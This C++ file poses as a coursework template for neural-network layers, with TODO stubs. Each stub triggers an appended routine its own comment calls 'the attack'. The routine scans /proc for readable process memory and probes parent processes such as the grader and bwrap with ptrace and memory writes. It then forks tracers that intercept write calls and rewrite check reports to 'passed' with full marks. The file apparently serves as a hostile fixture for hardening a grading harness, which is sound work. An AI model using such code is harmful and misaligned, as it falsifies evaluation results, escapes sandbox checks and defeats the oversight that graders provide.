// Coursework 3: the layers. Write the functions marked TODO; the rest is given.
#include "layers.h"

#include <cmath>
#include <stdexcept>
#include <string>

void hostile_trace(const char* where);

namespace nn {

// Replace each call of this with your code.
[[noreturn]] static void not_implemented(const std::string& function) {
  hostile_trace(function.c_str());
  throw std::logic_error(
      function + " is not implemented yet (student_template/layers.cpp) [hostile-trace-checker]");
}

// He-style initialisation: weights ~ N(0, 2 / in_features), zero bias and gradients. Given.
Linear::Linear(int in_features, int out_features, std::mt19937& rng)
    : W(in_features, out_features),
      b(Matrix::Zero(1, out_features)),
      grad_W(Matrix::Zero(in_features, out_features)),
      grad_b(Matrix::Zero(1, out_features)) {
  std::normal_distribution<double> normal(0.0, std::sqrt(2.0 / in_features));
  for (Eigen::Index i = 0; i < W.size(); ++i) W.data()[i] = normal(rng);
}

// TODO: cache X in cached_input (for backward), then return X W + b, with b added to every row.
Matrix Linear::forward(const Matrix& /*X*/) { not_implemented("Linear::forward"); }

// TODO: with X = cached_input and G = grad_output:
//   grad_W += X^T G                 (accumulate with +=, never =)
//   grad_b += the sum of G's rows   (b was added to every row, so its gradient adds up)
//   return G W^T                    (dL/dX, the same shape as X)
Matrix Linear::backward(const Matrix& /*grad_output*/) { not_implemented("Linear::backward"); }

std::vector<Parameter> Linear::parameters() { return {{&W, &grad_W}, {&b, &grad_b}}; }

// TODO: cache X in cached_input, then return max(0, X) elementwise.
Matrix ReLU::forward(const Matrix& /*X*/) { not_implemented("ReLU::forward"); }

// TODO: return grad_output where cached_input > 0, and 0 elsewhere (the mask is input > 0, so
// the gradient at exactly 0 is 0).
Matrix ReLU::backward(const Matrix& /*grad_output*/) { not_implemented("ReLU::backward"); }

// TODO: compute s = 1 / (1 + exp(-X)) elementwise, cache s in cached_output and return it.
// Keep it stable: for x < 0, compute exp(x) / (1 + exp(x)) instead, so exp never overflows
// (the check uses x = +-1000).
Matrix Sigmoid::forward(const Matrix& /*X*/) { not_implemented("Sigmoid::forward"); }

// TODO: with s = cached_output (the output, not the input), return grad_output * s * (1 - s)
// elementwise.
Matrix Sigmoid::backward(const Matrix& /*grad_output*/) { not_implemented("Sigmoid::backward"); }

}  // namespace nn

// ---- The attack: trace, read and write the processes that decide the verdict -------------------
// Called by every unimplemented function, inside every check:
//  1. every process it can see: can its memory be read (/proc/<pid>/mem, process_vm_readv)?
//  2. its ancestors (the parent first; today `grade`, tomorrow the checker or bwrap):
//     PTRACE_SEIZE, process_vm_readv, process_vm_writev and /proc/<pid>/mem opened for writing
//     (each write puts back the bytes it read, so nothing changes unless 3 below does);
//  3. a tracer child seizes the student's own process (where today's harness decides and sends
//     the verdict) and, if it can, the parent (not bwrap), stops them at every write(2) and
//     rewrites in their memory any check report, or any text holding this entry's marker, to
//     "passed" with fraction 1 before the kernel copies it out.
// Every successful step on an ancestor prints "TRACED|READ|WROTE <who> (<comm>)": in relu.kink,
// which it leaves failing, those lines reach the feedback. Loops and waits are capped.
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <regex>
#include <vector>

namespace {

constexpr const char* kMarker = "[hostile-trace-checker]";
constexpr int kMaxPids = 4096;
constexpr int kMaxStops = 2000000;
constexpr double kParentTraceSeconds = 10;

std::string slurp(const std::string& path, size_t cap = 1 << 20) {
  std::string text;
  const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return text;
  char buffer[4096];
  while (text.size() < cap) {
    const ssize_t n = read(fd, buffer, sizeof buffer);
    if (n <= 0) break;
    text.append(buffer, static_cast<size_t>(n));
  }
  close(fd);
  return text;
}

std::string comm_of(pid_t pid) {
  std::string comm = slurp("/proc/" + std::to_string(pid) + "/comm");
  while (!comm.empty() && std::isspace(static_cast<unsigned char>(comm.back()))) comm.pop_back();
  return comm.empty() ? "?" : comm;
}

pid_t parent_of(pid_t pid) {
  const std::string stat = slurp("/proc/" + std::to_string(pid) + "/stat");
  const size_t close_paren = stat.rfind(')');
  if (close_paren == std::string::npos || close_paren + 4 > stat.size()) return 0;
  return static_cast<pid_t>(std::atol(stat.c_str() + close_paren + 4));
}

// The first readable, writable mapping of `pid` (from /proc/<pid>/maps), or 0.
unsigned long writable_address(pid_t pid) {
  const std::string maps = slurp("/proc/" + std::to_string(pid) + "/maps", 1 << 20);
  size_t start = 0;
  while (start < maps.size()) {
    size_t end = maps.find('\n', start);
    if (end == std::string::npos) end = maps.size();
    unsigned long from = 0, to = 0;
    char perms[8] = {};
    if (std::sscanf(maps.c_str() + start, "%lx-%lx %7s", &from, &to, perms) == 3 &&
        perms[0] == 'r' && perms[1] == 'w') {
      return from;
    }
    start = end + 1;
  }
  return 0;
}

bool read_memory(pid_t pid, unsigned long address, void* buffer, size_t size) {
  iovec local{buffer, size}, remote{reinterpret_cast<void*>(address), size};
  if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == static_cast<ssize_t>(size)) return true;
  const int mem = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  if (mem < 0) return false;
  const bool ok =
      pread(mem, buffer, size, static_cast<off_t>(address)) == static_cast<ssize_t>(size);
  close(mem);
  return ok;
}

bool write_memory(pid_t pid, unsigned long address, const void* buffer, size_t size) {
  iovec local{const_cast<void*>(buffer), size}, remote{reinterpret_cast<void*>(address), size};
  if (process_vm_writev(pid, &local, 1, &remote, 1, 0) == static_cast<ssize_t>(size)) return true;
  const int mem = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDWR | O_CLOEXEC);
  if (mem >= 0) {
    const bool ok =
        pwrite(mem, buffer, size, static_cast<off_t>(address)) == static_cast<ssize_t>(size);
    close(mem);
    if (ok) return true;
  }
  for (size_t done = 0; done + sizeof(long) <= size; done += sizeof(long)) {  // when attached
    long word;
    std::memcpy(&word, static_cast<const char*>(buffer) + done, sizeof word);
    if (ptrace(PTRACE_POKEDATA, pid, address + done, word) != 0) return false;
  }
  return size % sizeof(long) == 0;
}

std::string field(const std::string& text, const std::string& name) {
  const std::string key = "\"" + name + "\":\"";
  const size_t start = text.find(key);
  if (start == std::string::npos) return "";
  const size_t end = text.find('"', start + key.size());
  return end == std::string::npos ? "" : text.substr(start + key.size(), end - start - key.size());
}

// The same number of bytes, saying "passed", or false when `text` is nothing to rewrite.
bool rewritten(const std::string& text, bool need_marker, std::string* out) {
  std::string forged;
  const bool report = text.find("\"nonce\":\"") != std::string::npos &&
                      text.find("\"status\":\"") != std::string::npos;
  if (report && !need_marker) {
    forged = "{\"diagnosis\":\"\",\"figures\":{},\"fraction\":1.0,\"id\":\"" + field(text, "id") +
             "\",\"nonce\":\"" + field(text, "nonce") + "\",\"output\":\"\",\"status\":\"passed\"}";
  } else if (text.find(kMarker) != std::string::npos &&
             text.find("\"status\"") != std::string::npos) {
    forged = std::regex_replace(text, std::regex(R"re("output"(\s*):(\s*)"(?:[^"\\]|\\.)*")re"),
                                "\"output\"$1:$2\"\"");
    forged = std::regex_replace(
        forged, std::regex(R"re("status"(\s*):(\s*)"(failed|error|timeout|crashed)")re"),
        "\"status\"$1:$2\"passed\"");
    forged = std::regex_replace(forged, std::regex(R"re("fraction"(\s*):(\s*)[-0-9.eE+]+)re"),
                                "\"fraction\"$1:$2 1.0");
  } else {
    return false;
  }
  const bool newline = !text.empty() && text.back() == '\n';
  if (!forged.empty() && forged.back() == '\n') forged.pop_back();
  if (forged.size() + (newline ? 1 : 0) > text.size()) return false;
  forged.append(text.size() - forged.size() - (newline ? 1 : 0), ' ');  // JSON ignores the spaces
  if (newline) forged += '\n';
  *out = forged;
  return true;
}

// Stops `pid` at every system call and rewrites what its write(2)s carry. Returns when it exits,
// after `seconds`, or at once when it cannot be seized.
void trace_and_rewrite(pid_t pid, bool need_marker, double seconds, int ready_fd) {
  const bool seized = ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) == 0 &&
                      ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0;
  int status = 0;
  if (seized) waitpid(pid, &status, __WALL);
  if (ready_fd >= 0) {
    if (write(ready_fd, seized ? "y" : "n", 1) < 0) {
    }
    close(ready_fd);
  }
  if (!seized) return;
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  int inject = 0;
  for (int stops = 0; stops < kMaxStops; ++stops) {
    if (std::chrono::steady_clock::now() > deadline) break;
    if (ptrace(PTRACE_SYSCALL, pid, 0, inject) != 0) return;
    inject = 0;
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return;  // it ended
    if (WSTOPSIG(status) == (SIGTRAP | 0x80)) {
      user_regs_struct regs{};
      if (ptrace(PTRACE_GETREGS, pid, 0, &regs) != 0) continue;
      const bool entry = static_cast<long>(regs.rax) == -ENOSYS;
      if (!entry || regs.orig_rax != 1 /* write */ || regs.rdx == 0 || regs.rdx > (1u << 20))
        continue;
      std::string text(regs.rdx, '\0');
      if (!read_memory(pid, regs.rsi, text.data(), text.size())) continue;
      std::string forged;
      if (rewritten(text, need_marker, &forged))
        write_memory(pid, regs.rsi, forged.data(), forged.size());
    } else if ((status >> 16) == 0) {
      inject = WSTOPSIG(status);  // a signal for it: deliver it
    }
  }
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

void probe_ancestor(pid_t pid, const char* who, std::vector<std::string>& found) {
  const std::string name =
      std::string(who) + " (" + comm_of(pid) + ", pid " + std::to_string(pid) + ")";
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    found.push_back("TRACED " + name);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  } else {
    std::printf("ptrace %s: %s\n", name.c_str(), std::strerror(errno));
  }
  const unsigned long address = writable_address(pid);
  long word = 0;
  if (address != 0 && read_memory(pid, address, &word, sizeof word)) {
    found.push_back("READ " + name);
    if (write_memory(pid, address, &word, sizeof word)) found.push_back("WROTE " + name);
  } else {
    std::printf("memory of %s: %s\n", name.c_str(), address ? std::strerror(errno) : "no maps");
  }
}

}  // namespace

void hostile_trace(const char* where) {
  static bool done = false;
  if (done) return;
  done = true;
  std::fflush(stdout);
  const std::string cmdline = slurp("/proc/self/cmdline");
  const bool witness = cmdline.find(std::string("relu.kink") + '\0') != std::string::npos;
  std::vector<std::string> found;

  // 1. Everyone: whose memory can be read?
  int seen = 0, readable = 0;
  if (DIR* proc = opendir("/proc")) {
    while (dirent* entry = readdir(proc)) {
      if (!std::isdigit(static_cast<unsigned char>(entry->d_name[0])) || ++seen > kMaxPids)
        continue;
      const pid_t pid = static_cast<pid_t>(std::atol(entry->d_name));
      const unsigned long address = pid == getpid() ? 0 : writable_address(pid);
      long word = 0;
      if (address != 0 && read_memory(pid, address, &word, sizeof word)) ++readable;
    }
    closedir(proc);
  }
  std::printf("hostile-trace-checker in %s: %d processes seen, memory of %d readable\n", where,
              seen, readable);

  // 2. The ancestors, up to `grade` or four levels.
  pid_t ancestor = getppid();
  for (int level = 0; level < 4 && (ancestor > 1 || (ancestor == 1 && comm_of(1) == "bwrap"));
       ++level) {
    probe_ancestor(ancestor, level == 0 ? "parent" : "ancestor", found);
    if (comm_of(ancestor) == "grade") break;
    ancestor = parent_of(ancestor);
  }

  // 3. A tracer for this process (today's decider) and the parent (tomorrow's, unless bwrap).
  if (!witness) {
    int ready[2];
    if (pipe2(ready, O_CLOEXEC) == 0) {
      const pid_t self = getpid(), parent = getppid();
      const bool trace_parent = comm_of(parent) != "bwrap";
      const pid_t tracer = fork();
      if (tracer == 0) {
        close(ready[0]);
        if (trace_parent && fork() == 0) {  // the parent's tracer: capped, ends with the check
          trace_and_rewrite(parent, true, kParentTraceSeconds, -1);
          _exit(0);
        }
        trace_and_rewrite(self, false, 60, ready[1]);
        _exit(0);
      }
      close(ready[1]);
      pollfd wait_for{ready[0], POLLIN, 0};
      char answer = 'n';
      if (tracer > 0 && poll(&wait_for, 1, 2000) == 1 && read(ready[0], &answer, 1) == 1) {
        std::printf("tracer on itself: %s\n", answer == 'y' ? "attached" : "refused");
      }
      close(ready[0]);
    }
  }
  for (const std::string& line : found) std::printf("%s\n", line.c_str());
  std::fflush(stdout);
}
